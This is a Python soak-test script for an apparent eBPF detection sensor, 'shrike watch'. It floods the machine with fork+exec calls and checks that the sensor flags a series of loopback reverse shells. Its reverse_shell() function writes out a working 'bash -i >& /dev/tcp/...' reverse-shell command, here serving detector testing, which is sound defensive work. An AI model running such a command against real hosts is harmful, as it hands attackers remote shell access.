#!/usr/bin/env python3
"""Exec-storm soak of `shrike watch` (root): the highest fork+exec rate this machine sustains,
for a while, with reverse shells on loopback interleaved in the storm.

    scripts/soak.py                      # 10 minutes, one storm worker per core
    scripts/soak.py --seconds 60         # a short run
    scripts/soak.py --no-build           # use target/release/shrike as it is

It reports: the exec rate achieved, what the sensor saw and what it lost (by reason, from its
own counters at /metrics and its stop summary), the host's own count of new processes over the
same time (/proc/stat), the peak and final RSS of `shrike watch` (sampled every second) and
whether every interleaved attack produced its Reverse Shell finding. Exit status 0 when every
attack was found and every lost event was counted; 1 otherwise. See docs/reliability.md.
"""

import argparse
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def rss_kib(pid, field="VmRSS"):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def host_processes():
    with open("/proc/stat") as f:
        for line in f:
            if line.startswith("processes "):
                return int(line.split()[1])
    return 0


def metrics(port):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as r:
        text = r.read().decode()
    out = {}
    for line in text.splitlines():
        if line and not line.startswith("#"):
            name, _, value = line.rpartition(" ")
            out[name] = float(value)
    return out


def reverse_shell():
    """A bash -i whose stdio is a TCP connection to a listener here; returns the port."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    shell = subprocess.Popen(
        ["bash", "--norc", "--noprofile", "-c",
         f"bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    listener.settimeout(30)
    conn, _ = listener.accept()
    conn.settimeout(30)
    conn.sendall(b"id\nexit\n")
    try:
        while conn.recv(4096):
            pass
    except OSError:
        pass
    conn.close()
    listener.close()
    shell.wait(timeout=30)
    return port


def storm(spawn, stop, counts, index):
    while not stop.is_set():
        subprocess.run([spawn, "2000"], stdout=subprocess.DEVNULL, check=True)
        counts[index] += 2000


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--seconds", type=int, default=600, help="soak duration (default 600)")
    ap.add_argument("--workers", type=int, default=os.cpu_count() or 2,
                    help="parallel fork+exec loops (default: one per core)")
    ap.add_argument("--attack-every", type=float, default=5.0,
                    help="seconds between interleaved reverse shells (default 5)")
    ap.add_argument("--no-build", action="store_true", help="do not run cargo build --release")
    args = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("soak: run as root (shrike watch loads the eBPF sensor)")

    if not args.no_build:
        subprocess.run(["cargo", "build", "--release", "--locked", "-p", "shrike"], cwd=ROOT,
                       check=True)
    shrike = os.path.join(ROOT, "target", "release", "shrike")
    work = tempfile.mkdtemp(prefix="shrike-soak-")
    spawn = os.path.join(work, "spawn")
    subprocess.run(["cc", "-O2", "-o", spawn, os.path.join(ROOT, "bench", "spawn.c")], check=True)

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    findings = os.path.join(work, "findings.jsonl")
    log = open(os.path.join(work, "watch.log"), "w")
    watch = subprocess.Popen(
        [shrike, "watch", "--data-dir", work, "--listen", f"127.0.0.1:{port}",
         "--sink", f"jsonl:{findings}", "--sink", f"sqlite:{os.path.join(work, 'shrike.db')}"],
        stdout=subprocess.DEVNULL, stderr=log, env={**os.environ, "SHRIKE_LOG": "warn"})
    deadline = time.time() + 60
    while True:
        with open(log.name) as f:
            if "sensor attached" in f.read():
                break
        if watch.poll() is not None or time.time() > deadline:
            sys.exit(f"soak: shrike watch did not start; see {log.name}")
        time.sleep(0.2)
    time.sleep(1)

    stop = threading.Event()
    counts = [0] * args.workers
    processes_before = host_processes()
    started = time.time()
    workers = [threading.Thread(target=storm, args=(spawn, stop, counts, i), daemon=True)
               for i in range(args.workers)]
    for w in workers:
        w.start()

    rss = []
    ports = []
    next_attack = started + 2
    while time.time() - started < args.seconds:
        rss.append(rss_kib(watch.pid))
        if time.time() >= next_attack:
            ports.append(reverse_shell())
            next_attack += args.attack_every
        time.sleep(1)
    stop.set()
    for w in workers:
        w.join()
    elapsed = time.time() - started
    processes = host_processes() - processes_before
    time.sleep(2)
    page = metrics(port)
    peak_hwm = rss_kib(watch.pid, "VmHWM")
    watch.send_signal(signal.SIGTERM)
    watch.wait(timeout=120)
    log.close()

    found = set()
    with open(findings) as f:
        for line in f:
            try:
                v = json.loads(line)
            except ValueError:
                continue
            if v["finding"]["moduleName"] != "REVERSE_SHELL":
                continue
            props = v["finding"]["sourceProperties"]
            for key in ("Reverse_Shell_Stdin_Redirection_Dst_Port",
                        "Reverse_Shell_Stdout_Redirection_Dst_Port"):
                if key in props:
                    found.add(int(props[key]))
    missed = [p for p in ports if p not in found]

    lost = {k.split('"')[1]: v for k, v in page.items()
            if k.startswith("shrike_events_lost_total{")}
    events = {k.split('"')[1]: v for k, v in page.items()
              if k.startswith("shrike_events_total{")}
    with open(log.name) as f:
        summary = [l.strip() for l in f if "shrike: stopped:" in l]
    execs = sum(counts)
    minute = min(len(rss) - 1, 60)
    report = {
        "seconds": round(elapsed, 1),
        "storm_workers": args.workers,
        "execs": execs,
        "execs_per_second": round(execs / elapsed),
        "host_new_processes": processes,
        "sensor_events": events,
        "sensor_lost": lost,
        "rss_kib_after_1_min": rss[minute] if rss else 0,
        "rss_kib_at_end": rss[-1] if rss else 0,
        "rss_kib_peak": peak_hwm,
        "attacks": len(ports),
        "attacks_found": len(ports) - len(missed),
        "missed_attack_ports": missed,
        "stop_summary": summary[-1] if summary else "",
        "work_dir": work,
    }
    print(json.dumps(report, indent=2))
    # Every exec of the storm is either an event the sensor read or a counted loss (the sensor
    # also sees the soak's helpers and whatever else runs, so it may see more). The host's
    # fork count is printed for reference: it includes threads, which the sensor does not
    # report as processes.
    accounted = events.get("exec", 0) + lost.get("ring_buffer_full_exec", 0)
    print(f"storm execs accounted for (seen + counted as lost): {accounted:.0f} of {execs}; "
          f"host forks incl. threads: {processes}")
    ok = not missed and accounted >= execs
    if ok:
        shutil.rmtree(work, ignore_errors=True)
    else:
        print(f"soak: FAILED; logs kept in {work}", file=sys.stderr)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
